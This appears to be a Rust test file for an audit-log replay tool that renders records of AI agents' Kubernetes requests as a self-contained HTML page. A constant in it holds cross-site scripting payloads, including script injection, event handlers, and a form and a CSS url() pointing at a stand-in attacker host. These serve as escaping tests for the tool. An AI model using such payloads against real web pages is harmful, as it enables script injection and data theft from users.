//! `kubeleash replay --html OUT FILE`: the page says what the record says (the chain's verdict,
//! the summary, the approvals, every entry), loads nothing from anywhere, and shows every string
//! the agent or the upstream wrote as text: no recorded string can add a tag or an attribute.
//! (tests/browser/ opens the same pages in Chromium.)

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use std::path::{Path, PathBuf};
use std::process::Command;

use kubeleash_core::policy::Identity;
use kubeleash_core::record::{
    Chain, Outcome, RecordBody, RecordKind, RecordedDecision, RecordedRequest, RecordedResponse,
    Stream,
};
use proptest::prelude::*;

/// The tags the page is made of; anything else in it came from a record.
const TAGS: &[&str] = &[
    "!DOCTYPE", "html", "head", "meta", "link", "title", "style", "body", "header", "h1", "h2",
    "p", "code", "section", "ul", "li", "b", "br", "table", "thead", "tbody", "tr", "th", "td",
    "div", "span", "a", "details", "summary", "pre", "form", "label", "select", "option",
    "optgroup", "button", "output", "colgroup", "col", "footer", "script",
];

/// The attributes the page uses.
const ATTRIBUTES: &[&str] = &[
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "rel",
    "href",
    "nonce",
    "id",
    "class",
    "value",
    "label",
    "type",
    "hidden",
    "data-ids",
    "data-e",
    "data-o",
    "data-r",
    "data-approval",
    "role",
];

fn dir() -> PathBuf {
    let d = std::env::temp_dir().join(format!("kubeleash-replay-html-{}", std::process::id()));
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn write(name: &str, text: &str) -> PathBuf {
    let p = dir().join(name);
    std::fs::write(&p, text).unwrap();
    p
}

fn kubeleash(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_kubeleash"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The page for `log`, written by the binary.
fn page_of(name: &str, log: &str) -> String {
    let file = write(&format!("{name}.jsonl"), log);
    let out = dir().join(format!("{name}.html"));
    let (code, _, err) = kubeleash(&[
        "replay",
        "--html",
        out.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    std::fs::read_to_string(&out).unwrap()
}

fn request(
    i: usize,
    user: &str,
    method: &str,
    target: &str,
    decision: (&str, &str, &str),
) -> RecordBody {
    let (effect, outcome, rule) = decision;
    RecordBody {
        time: format!("2026-11-27T10:00:{i:02}.000Z"),
        kind: RecordKind::Request,
        identity: Identity::new(user, ["ai-agents"]),
        request: RecordedRequest {
            method: method.into(),
            target: target.into(),
            attributes: kubeleash_core::request::classify(method, target, &http::HeaderMap::new())
                .ok()
                .map(|r| r.attributes),
            ..Default::default()
        },
        decision: RecordedDecision {
            effect: effect.into(),
            outcome: word(outcome),
            rule: Some(rule.into()),
            reason: format!("rule {rule:?} decided {effect}"),
            ..Default::default()
        },
        checkpoint: None,
        response: Some(RecordedResponse {
            status: if outcome == "refused" { 403 } else { 200 },
            bytes: 10,
            duration_ms: 1,
            stream: if outcome == "refused" {
                Stream::Refused
            } else {
                Stream::Masked
            },
            body: None,
            error: None,
        }),
    }
}

/// A session like the demo's: reads, a masked Secret read, a denial, an approval by alice and
/// one denied by bob, a grant; closed.
fn session() -> String {
    let mut chain = Chain::new("session-1");
    let mut bodies = vec![
        request(
            0,
            "agent-1",
            "GET",
            "/api/v1/namespaces/dev/pods",
            ("allow", "forwarded", "read-dev"),
        ),
        {
            let mut r = request(
                1,
                "agent-1",
                "GET",
                "/api/v1/namespaces/dev/secrets/db",
                ("allow", "forwarded", "read-dev"),
            );
            r.response.as_mut().unwrap().body = Some(
                r#"{"kind":"Secret","data":{"password":"W21hc2tlZF0="},"metadata":{"annotations":{"note":"token=[masked:kubeconfig-token]"}}}"#.into(),
            );
            r
        },
        request(
            2,
            "agent-2",
            "DELETE",
            "/api/v1/namespaces/prod",
            ("deny", "refused", "protect-production"),
        ),
    ];
    let crb = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings";
    let held = |i: usize, id: &str| {
        let mut r = request(
            i,
            "agent-1",
            "POST",
            crb,
            ("approve", "held", "rbac-needs-a-human"),
        );
        r.kind = RecordKind::Held;
        r.request.body = Some(r#"{"kind":"ClusterRoleBinding","metadata":{"name":"view"}}"#.into());
        r.decision.approval_id = Some(id.into());
        r.response = None;
        r
    };
    bodies.push(held(3, "ap-1"));
    let mut approved = held(4, "ap-1");
    approved.kind = RecordKind::Approval;
    approved.decision.outcome = Outcome::Approved;
    approved.decision.approver = Some("alice".into());
    approved.decision.approver_reason = Some("ticket OPS-12".into());
    approved.decision.waited_ms = Some(4200);
    approved.decision.grant = Some(serde_json::json!({"rule": {"name": "grant-ap-1"}, "uses": 3}));
    bodies.push(approved);
    let mut done = request(
        5,
        "agent-1",
        "POST",
        crb,
        ("approve", "approved", "rbac-needs-a-human"),
    );
    done.decision.approval_id = Some("ap-1".into());
    done.decision.approver = Some("alice".into());
    bodies.push(done);
    bodies.push(held(6, "ap-2"));
    let mut denied = request(
        7,
        "agent-1",
        "POST",
        crb,
        ("approve", "refused", "rbac-needs-a-human"),
    );
    denied.decision.approval_id = Some("ap-2".into());
    denied.decision.approver = Some("bob".into());
    denied.decision.approver_reason = Some("not during the freeze".into());
    bodies.push(denied);
    let mut log = String::new();
    for b in bodies {
        log.push_str(&chain.seal(b));
        log.push('\n');
    }
    log.push_str(&chain.end("2026-11-27T10:01:00.000Z"));
    log.push('\n');
    log
}

/// Every tag of `page` (text between `<` and `>`: escaped text holds neither), as its name and
/// its attributes.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').expect("a tag that does not close") + start;
        let inner = &rest[start + 1..end];
        rest = &rest[end + 1..];
        let closing = inner.starts_with('/');
        let inner = inner.trim_start_matches('/');
        let name: String = inner.chars().take_while(|c| !c.is_whitespace()).collect();
        let mut attrs = Vec::new();
        let mut a = inner[name.len()..].trim();
        while !a.is_empty() {
            let key: String = a
                .chars()
                .take_while(|c| *c != '=' && !c.is_whitespace())
                .collect();
            a = a[key.len()..].trim_start();
            let value = if let Some(v) = a.strip_prefix("=\"") {
                let close = v.find('"').expect("an attribute value that does not close");
                a = v[close + 1..].trim_start();
                v[..close].to_string()
            } else {
                String::new()
            };
            attrs.push((key, value));
        }
        // The style and the script are the page's own: skip to their end tags.
        if !closing && (name == "style" || name == "script") {
            let close = format!("</{name}>");
            let at = rest.find(&close).expect("an unclosed style or script");
            rest = &rest[at..];
        }
        found.push((name, attrs));
    }
    found
}

/// The page is made only of the page's own tags and attributes, with one style and one script,
/// both carrying the nonce the Content-Security-Policy names, and no reference to anything
/// outside the file.
fn assert_structure(page: &str) {
    let all = tags(page);
    let mut nonces = Vec::new();
    for (name, attrs) in &all {
        assert!(
            TAGS.contains(&name.as_str()),
            "a tag the page does not make: <{name}> {attrs:?}"
        );
        for (k, v) in attrs {
            assert!(
                ATTRIBUTES.contains(&k.as_str()) || (name == "!DOCTYPE" && k == "html"),
                "an attribute the page does not make: <{name} {k}={v:?}>"
            );
            if k == "href" {
                assert!(
                    v.starts_with('#') || v == "data:,",
                    "a link out of the page: {v}"
                );
            }
            if k == "nonce" {
                nonces.push(v.clone());
            }
        }
    }
    let count = |n: &str| all.iter().filter(|(t, _)| t == n).count();
    // Opening and closing tags: one style, one script.
    assert_eq!(count("script"), 2, "one script");
    assert_eq!(count("style"), 2, "one style");
    assert_eq!(nonces.len(), 2, "{nonces:?}");
    assert_eq!(nonces[0], nonces[1]);
    assert!(nonces[0].len() >= 32 && nonces[0].chars().all(|c| c.is_ascii_hexdigit()));
    let csp = all
        .iter()
        .find(|(t, a)| {
            t == "meta"
                && a.iter()
                    .any(|(k, v)| k == "http-equiv" && v == "Content-Security-Policy")
        })
        .and_then(|(_, a)| a.iter().find(|(k, _)| k == "content"))
        .map(|(_, v)| v.clone())
        .expect("a Content-Security-Policy");
    assert!(csp.starts_with("default-src 'none';"), "{csp}");
    assert!(
        csp.contains(&format!("script-src 'nonce-{}'", nonces[0])),
        "{csp}"
    );
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    // Nothing in the style or the script fetches.
    let style = &page[page.find("<style").unwrap()..page.find("</style>").unwrap()];
    let script = &page[page.find("<script").unwrap()..page.find("</script>").unwrap()];
    for code in [style, script] {
        for bad in [
            "url(",
            "@import",
            "http:",
            "https:",
            "fetch(",
            "XMLHttpRequest",
            "innerHTML",
            "src=",
        ] {
            assert!(!code.contains(bad), "`{bad}` in the page's own code");
        }
    }
}

/// HTML escaping, written again here so the test does not trust the page's own.
fn escaped(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[test]
fn the_page_says_what_the_record_says() {
    let page = page_of("session", &session());
    assert_structure(&page);
    assert!(page.contains("The record is intact"), "verdict");
    assert!(page.contains("All 8 entries are present"));
    assert!(
        page.contains("<b>5</b> requests, <b>2</b> denied, <b>2</b> held for a person's approval, <b>3</b> masked responses."),
        "summary"
    );
    assert!(page.contains("1 of the 1 response body the record keeps shows masked values"));
    // Every entry but the closing one is a row.
    assert_eq!(page.matches("<div id=\"e").count(), 8);
    // The denial names its rule and reason.
    let denial = row(&page, 2);
    assert!(
        denial.contains("DENIED by rule protect-production"),
        "{denial}"
    );
    assert!(
        denial.contains("rule &quot;protect-production&quot; decided deny"),
        "{denial}"
    );
    assert!(denial.contains("kubectl delete namespace prod"), "{denial}");
    assert!(denial.contains("403 Forbidden"), "{denial}");
    // The masked Secret: its base64 marker, read.
    let secret = row(&page, 1);
    assert!(
        secret.contains("<code>W21hc2tlZF0=</code> is base64 for <code>[masked]</code>"),
        "{secret}"
    );
    assert!(
        secret.contains("token=[masked:kubeconfig-token]"),
        "{secret}"
    );
    // Approvals: who answered, when, how, why, what they saw, the grant.
    let approvals = &page
        [page.find("id=\"approvals\"").unwrap()..page.find("id=\"timeline-section\"").unwrap()];
    assert!(
        approvals.contains("<b>approved</b> by <b class=\"approver\">alice</b>"),
        "{approvals}"
    );
    assert!(approvals.contains("after 4.2s"), "{approvals}");
    assert!(approvals.contains("ticket OPS-12"), "{approvals}");
    assert!(
        approvals.contains("<b>denied</b> by <b class=\"approver\">bob</b>"),
        "{approvals}"
    );
    assert!(approvals.contains("not during the freeze"), "{approvals}");
    assert!(
        approvals.contains("&quot;name&quot;: &quot;grant-ap-1&quot;"),
        "{approvals}"
    );
    assert!(
        approvals.contains("ClusterRoleBinding"),
        "the body the approver saw: {approvals}"
    );
    // The filters offer what the record holds.
    for option in [
        "user: agent-1",
        "user: agent-2",
        "group: ai-agents",
        "secrets",
        "namespaces",
        "clusterrolebindings.rbac.authorization.k8s.io",
        "deny: the policy denies it",
    ] {
        assert!(
            page.contains(&format!("\">{option}</option>")),
            "no option {option}"
        );
    }
    assert!(page.contains("8 of 8 entries shown"));
}

/// The row of the entry `seq`.
fn row(page: &str, seq: u64) -> &str {
    let start = page.find(&format!("<div id=\"e{seq}\"")).unwrap();
    let next = &page[start + 1..];
    let end = next
        .find("<div id=\"e")
        .or_else(|| next.find("<p id=\"none-shown\""))
        .unwrap()
        + start
        + 1;
    &page[start..end]
}

#[test]
fn a_broken_or_unfinished_chain_is_said_first() {
    let log = session();
    let tampered = log.replacen("not during the freeze", "not during the freezE", 1);
    let page = page_of("tampered", &tampered);
    let verdict =
        &page[page.find("id=\"verification\"").unwrap()..page.find("id=\"summary\"").unwrap()];
    assert!(
        verdict.contains("The record has been changed or damaged"),
        "{verdict}"
    );
    assert!(
        verdict.contains("The first problem is on line 8 of the file: record 7 was edited: its content does not match its hash."),
        "{verdict}"
    );
    assert!(
        row(&page, 7).contains("class=\"row k-request o-refused bad\""),
        "{}",
        row(&page, 7)
    );
    assert!(row(&page, 7).contains("line 8: this entry does not fit the chain"));
    assert!(!row(&page, 6).contains(" bad\""));

    let lines: Vec<&str> = log.lines().collect();
    let cut: String = lines[..5].iter().map(|l| format!("{l}\n")).collect();
    let page = page_of("cut", &cut);
    assert!(page.contains("The record is intact, but it may not be complete"));
    assert!(page.contains("Note: the log has no closing record"));
    let torn = &log[..log.len() - 30];
    let page = page_of("torn", torn);
    assert!(page.contains("Note: line 9 is torn"), "torn");

    // --verify still judges the chain, after the page is written.
    let file = write("tampered-verify.jsonl", &tampered);
    let out = dir().join("tampered-verify.html");
    let (code, _, err) = kubeleash(&[
        "replay",
        "--verify",
        "--html",
        out.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains(":8: chain broken"), "{err}");
    assert!(
        std::fs::read_to_string(&out)
            .unwrap()
            .contains("changed or damaged")
    );
}

/// Strings an agent or an upstream could put in a record, meant to end an element, open one,
/// add an attribute, or reorder what a person reads.
const NASTY: &[&str] = &[
    "</script><script>window.__pwned=1</script>",
    "<img src=x onerror=\"window.__pwned=2\">",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</td></tr></tbody></table><form action=https://evil.example/><input name=p>",
    "&lt;already escaped&gt; &amp; &#60;script&#62;",
    "<!-- unclosed comment",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "javascript:alert(1)",
    "a\u{202e}txt.exe\u{1b}[2J\u{0}",
    "</textarea></pre></details><base href=https://evil.example/>",
];

fn hostile_log(strings: &[String]) -> String {
    let mut chain = Chain::new(strings.first().cloned().unwrap_or_default());
    let mut log = String::new();
    for (i, s) in strings.iter().enumerate() {
        let body = RecordBody {
            time: s.clone(),
            kind: if i % 2 == 0 {
                RecordKind::Request
            } else {
                RecordKind::Held
            },
            identity: Identity::new(s.as_str(), [s.as_str(), "ok-group"]),
            request: RecordedRequest {
                method: s.clone(),
                target: format!("/api/v1/namespaces/{s}/pods/{s}"),
                body: Some(s.clone()),
                agent_reason: Some(s.clone()),
                content_type: Some(s.clone()),
                ..Default::default()
            },
            decision: RecordedDecision {
                effect: s.clone(),
                rule: Some(s.clone()),
                reason: s.clone(),
                outcome: if i % 2 == 0 {
                    Outcome::Refused
                } else {
                    Outcome::Held
                },
                approval_id: Some(s.clone()),
                approver: Some(s.clone()),
                approver_reason: Some(s.clone()),
                grant: Some(serde_json::json!({ "rule": { "name": s } })),
                ..Default::default()
            },
            checkpoint: None,
            response: Some(RecordedResponse {
                status: 200,
                bytes: 1,
                duration_ms: 1,
                // A word the log cannot hold but as one of its own (`Stream`): a hostile one
                // reads back as `unknown`.
                stream: Stream::Masked,
                body: Some(format!("{s}\nW21hc2tlZF0= {s}")),
                error: Some(s.clone()),
            }),
        };
        log.push_str(&chain.seal(body));
        log.push('\n');
    }
    log
}

#[test]
fn every_recorded_string_is_text() {
    let strings: Vec<String> = NASTY.iter().map(|s| s.to_string()).collect();
    let page = page_of("nasty", &hostile_log(&strings));
    assert_structure(&page);
    for s in NASTY
        .iter()
        .filter(|s| !s.chars().any(char::is_control) && !s.contains('\u{202e}'))
    {
        assert!(page.contains(&escaped(s)), "`{s}` is not shown as text");
    }
    // Controls and reordering characters are spelled out, not passed to the page.
    assert!(page.contains(r"a\u{202e}txt.exe\u{1b}[2J\u{0}"));
    assert!(
        !page
            .chars()
            .any(|c| c == '\u{202e}' || c == '\u{1b}' || c == '\0')
    );
    assert!(!page.contains("evil.example/x)}</style>"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Any strings at all, mixed from the characters that matter in HTML.
    #[test]
    fn any_recorded_strings_stay_text(
        strings in proptest::collection::vec("(</script>|<!--|[<>&\"'=/ a-z]|\\\\u003c|\\PC){0,24}", 1..6)
    ) {
        let page = page_of("prop", &hostile_log(&strings));
        assert_structure(&page);
        for s in &strings {
            let shown = kubeleash_core::display::printable(s);
            prop_assert!(page.contains(&escaped(&shown)), "{s:?} is not shown as text");
        }
    }
}

#[test]
fn a_large_session_is_one_page_of_plain_rows() {
    let mut chain = Chain::new("big");
    let mut log = String::new();
    for i in 0..10_000 {
        let (d, rule) = if i % 10 == 0 {
            (("deny", "refused"), "no")
        } else {
            (("allow", "forwarded"), "yes")
        };
        let r = request(
            i % 60,
            &format!("agent-{}", i % 7),
            "GET",
            &format!("/api/v1/namespaces/ns-{}/pods", i % 13),
            (d.0, d.1, rule),
        );
        log.push_str(&chain.seal(r));
        log.push('\n');
    }
    log.push_str(&chain.end("2026-11-27T11:00:00.000Z"));
    log.push('\n');
    let page = page_of("large", &log);
    assert_eq!(page.matches("<div id=\"e").count(), 10_000);
    assert!(page.contains("<b>10000</b> requests, <b>1000</b> denied"));
    // Plain rows: a session of 10,000 requests stays a page a browser opens at once.
    assert!(page.len() < 16 * 1024 * 1024, "{} bytes", page.len());
    for f in ["large.jsonl", "large.html"] {
        let _ = std::fs::remove_file(dir().join(f));
    }
}

#[test]
fn errors_name_what_was_wrong() {
    let file = write("errors.jsonl", &session());
    let (code, _, err) = kubeleash(&[
        "replay",
        "--html",
        "/nonexistent-dir/out.html",
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains(
            "error: cannot write the page to `/nonexistent-dir/out.html`: no such file or directory"
        ),
        "{err}"
    );
    let missing = dir().join("missing.jsonl");
    let out = dir().join("never.html");
    let (code, _, err) = kubeleash(&[
        "replay",
        "--html",
        out.to_str().unwrap(),
        missing.to_str().unwrap(),
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains(&format!(
            "error: cannot read `{}`: no such file",
            missing.display()
        )),
        "{err}"
    );
    assert!(!out.exists(), "no page for a record that does not exist");
    // The page never overwrites the record it reads.
    let before = std::fs::read_to_string(&file).unwrap();
    let (code, _, err) = kubeleash(&[
        "replay",
        "--html",
        file.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("is the record file itself"), "{err}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), before);
    for other in [
        ["--approvals"].as_slice(),
        &["--grants"],
        &["--format", "json"],
    ] {
        let mut args = vec!["replay", "--html", "x.html"];
        args.extend_from_slice(other);
        args.push(file.to_str().unwrap());
        let (code, _, err) = kubeleash(&args);
        assert_eq!(code, 2, "{other:?}: {err}");
        assert!(err.contains("cannot be used with"), "{other:?}: {err}");
    }
}

#[test]
fn command_line_filters_apply_and_are_named() {
    let file = write("filtered.jsonl", &session());
    let out = dir().join("filtered.html");
    let (code, _, err) = kubeleash(&[
        "replay",
        "--identity",
        "agent-2",
        "--html",
        out.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let page = std::fs::read_to_string(&out).unwrap();
    assert_eq!(page.matches("<div id=\"e").count(), 1);
    assert!(page.contains("Only the entries matching <code>--identity agent-2</code>"));
    assert!(Path::new(&out).exists());
}

/// A record word (`refused`, `approved`, ...) as the log spells it, read as its enum.
fn word<T: serde::de::DeserializeOwned>(w: &str) -> T {
    serde_json::from_value(serde_json::Value::String(w.into())).expect("a record word")
}
